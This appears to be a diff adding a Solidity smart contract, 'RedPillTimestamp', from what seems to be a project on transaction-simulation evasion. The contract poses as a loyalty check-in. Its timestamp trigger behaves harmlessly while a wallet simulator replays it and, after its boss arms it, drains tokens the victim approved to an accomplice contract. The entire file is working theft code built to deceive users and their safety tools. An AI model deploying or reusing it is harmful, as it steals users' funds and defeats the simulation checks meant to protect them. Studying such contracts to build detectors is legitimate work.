@@ -1,0 +1,42 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.30;
+
+import {RedPillDesk} from "./RedPillDesk.sol";
+
+/// @title RedPillTimestamp
+/// @notice Red pill keyed on the block timestamp. Looks like a loyalty check-in: `checkIn` records
+///         the caller's visit and moves nothing. Detects: its boss arms it (`arm`) at the newest
+///         block's time, the time a simulation forks and runs at; a submission is included
+///         later. Steals, past the armed time: `loot` of the token the victim approved
+///         to the accomplice, through a contract the simulation never touches.
+contract RedPillTimestamp {
+    address private immutable _accomplice;
+    uint256 private immutable _loot;
+    address private immutable _boss;
+
+    /// @notice The timestamp of the block `arm` ran in.
+    uint256 public armedTime = type(uint256).max;
+    /// @notice Check-ins per visitor.
+    mapping(address visitor => uint256) public visits;
+
+    /// @notice `visitor` checked in.
+    event CheckedIn(address indexed visitor, uint256 visits);
+
+    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
+    /// @param loot What one real execution steals through the accomplice.
+    constructor(address accomplice, uint256 loot) {
+        (_accomplice, _loot, _boss) = (accomplice, loot, msg.sender);
+    }
+
+    /// @notice Remembers the current block time. Only the deployer.
+    function arm() external {
+        require(msg.sender == _boss, "not the boss");
+        armedTime = block.timestamp;
+    }
+
+    /// @notice Records a visit of the caller.
+    function checkIn() external {
+        emit CheckedIn(msg.sender, ++visits[msg.sender]);
+        if (block.timestamp > armedTime) RedPillDesk.rob(_accomplice, msg.sender, _loot);
+    }
+}
